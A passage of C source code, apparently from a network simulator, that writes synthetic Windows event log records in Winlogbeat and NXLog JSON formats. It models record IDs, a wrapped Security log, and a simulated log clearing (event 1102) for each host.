        sk_jw_kv_string(&w, "provider", provider_name[r->ch]);
        sk_jw_kv_string(&w, "kind", "event");
        sk_jw_object_end(&w);
        sk_jw_key(&w, "winlog");
        sk_jw_object_begin(&w);
        sk_jw_kv_string(&w, "channel", channel_name[r->ch]);
        sk_jw_kv_u64(&w, "event_id", r->id);
        sk_jw_kv_string(&w, "provider_name", provider_name[r->ch]);
        if (provider_guid[r->ch]) sk_jw_kv_string(&w, "provider_guid", provider_guid[r->ch]);
        sk_jw_kv_string(&w, "computer_name", fqdn);
        sk_jw_kv_u64(&w, "record_id", record_id);
        sk_jw_key(&w, "event_data");
        sk_jw_object_begin(&w);
        event_data(&w, p, r->n, "param"); /* Winlogbeat: unnamed <Data> as param1, param2, ... */
        sk_jw_object_end(&w);
        sk_jw_object_end(&w);
    } else {
        nx_time(ts, sizeof ts, t, hl->w->sites[h->site].tz);
        sk_jw_kv_string(&w, "EventTime", ts);
        sk_jw_kv_string(&w, "Hostname", fqdn);
        sk_jw_kv_u64(&w, "EventID", r->id);
        sk_jw_kv_string(&w, "SourceName", provider_name[r->ch]);
        if (provider_guid[r->ch]) sk_jw_kv_string(&w, "ProviderGuid", provider_guid[r->ch]);
        sk_jw_kv_string(&w, "Channel", channel_name[r->ch]);
        sk_jw_kv_u64(&w, "RecordNumber", record_id);
        sk_jw_kv_string(&w, "EventType", r->ch == CH_SECURITY ? "AUDIT_SUCCESS" : "INFO");
        sk_jw_kv_string(&w, "SourceModuleName", "eventlog");
        sk_jw_kv_string(&w, "SourceModuleType", "im_msvistalog");
        event_data(&w, p, r->n, "Data"); /* NXLog: unnamed <Data> as Data1, Data2, ... */
    }
    sk_jw_object_end(&w);
    int rc = sk_jw_error(&w);
    return rc ? rc : sk_buf_putc(b, '\n');
}

static int run_events(void *ctx, size_t from, size_t to, sim_out *o, uint64_t *records)
{
    const sim_world *w = ctx;
    int rc = 0;
    host_log hl = {0};
    sk_buf_init(&hl.pool, (size_t)1 << 30);
    sk_buf out;
    sk_buf_init(&out, (size_t)2 << 30);
    for (size_t hi = from; hi < to && !rc; hi++) {
        const sim_host *h = &w->hosts[hi];
        if (h->coverage & SIM_COV_NO_LOGS) continue;
        if (h->role == SIM_PROXY || h->role == SIM_DHCP_SERVER) continue;
        hl.w = w;
        hl.host = hi;
        hl.n = 0;
        sk_buf_reset(&hl.pool);
        rc = host_events(&hl);
        if (rc) break;
        sim_sort(hl.r, hl.n, sizeof *hl.r, cmp_rec);
        sim_rng r;
        sim_rng_init(&r, w->seed, "record-ids", hi);
        uint64_t ids[N_CH];
        for (int c = 0; c < N_CH; c++) ids[c] = 1000 + sim_rng_below(&r, 900000);
        sk_time clear_at = SK_TIME_NONE;
        size_t clear_by = SIZE_MAX;
        int benign_clear = 0;
        if (!sim_host_clears_log(w, hi, &clear_at, &clear_by, &benign_clear)) clear_at = SK_TIME_NONE;
        char fqdn[96];
        snprintf(fqdn, sizeof fqdn, "%s.%s", h->name, w->sc->fqdn_domain);
        for (size_t k = 0; fqdn[k]; k++)
            if (fqdn[k] >= 'A' && fqdn[k] <= 'Z') fqdn[k] = (char)(fqdn[k] + 32);
        sk_buf_reset(&out);
        int cleared = 0;
        sk_time kept_from = sim_security_kept_from(w, hi); /* a wrapped log lost the rest */
        for (size_t i = 0; i < hl.n && !rc; i++) {
            const rec *rr = &hl.r[i];
            if (rr->ch == CH_SECURITY && kept_from != SK_TIME_NONE && rr->t < kept_from) {
                ids[CH_SECURITY]++; /* overwritten, but its record id was used */
                continue;
            }
            if (!cleared && clear_at != SK_TIME_NONE && rr->t >= clear_at) {
                /* Security is cleared: what came before is gone, ids restart */
                cleared = 1;
                ids[CH_SECURITY] = 1;
                /* drop this host's earlier Security records from the output; keep the rest */
                sk_buf_reset(&out);
                uint64_t again[N_CH];
                sim_rng_init(&r, w->seed, "record-ids", hi);
                for (int c = 0; c < N_CH; c++) again[c] = 1000 + sim_rng_below(&r, 900000);
                for (size_t k = 0; k < i && !rc; k++)
                    if (hl.r[k].ch != CH_SECURITY) rc = write_record(&out, &hl, &hl.r[k], again[hl.r[k].ch]++, fqdn);
                ids[CH_SYSMON] = again[CH_SYSMON], ids[CH_PS_OPERATIONAL] = again[CH_PS_OPERATIONAL];
                ids[CH_PS_CLASSIC] = again[CH_PS_CLASSIC];
                char sid[64];
                snprintf(sid, sizeof sid, "S-1-5-21-1004336348-1177238915-682003330-%u",
                         clear_by != SIZE_MAX ? (unsigned)w->users[clear_by].rid : 500u);
                kv c[] = {{"SubjectUserSid", sid},
                          {"SubjectUserName", clear_by != SIZE_MAX ? w->users[clear_by].sam : "Administrator"},
                          {"SubjectDomainName", w->sc->netbios_domain}, {"SubjectLogonId", "0x3e7"}};
                rec cr = {clear_at, CH_SECURITY, 1102, 0, 0, 0, 0};
                size_t mark = hl.pool.len;
                cr.off = (uint32_t)mark;
                for (int q = 0; q < 4; q++) {
                    sk_buf_append(&hl.pool, c[q].k, strlen(c[q].k) + 1);
                    sk_buf_append(&hl.pool, c[q].v, strlen(c[q].v) + 1);
                }
                cr.n = 4;
                if (!rc) rc = write_record(&out, &hl, &cr, ids[CH_SECURITY]++, fqdn);
            }
            if (!rc) rc = write_record(&out, &hl, rr, ids[rr->ch]++, fqdn);
        }
        char rel[256];
        snprintf(rel, sizeof rel, "logs/events/%s/%s.json", w->sites[h->site].spec->name, h->name);
        if (!rc) rc = sim_out_write(o, rel, &out);
        *records += hl.n;
    }
    free(hl.r);
    sk_buf_free(&hl.pool);
    sk_buf_free(&out);
    return rc;
}

int sim_events_write(const sim_world *w, sim_out *o, unsigned threads, uint64_t *records)
{
    *records = 0;
    return sim_run_chunks(w->n_hosts, 256, threads, run_events, (void *)w, o, records);
}
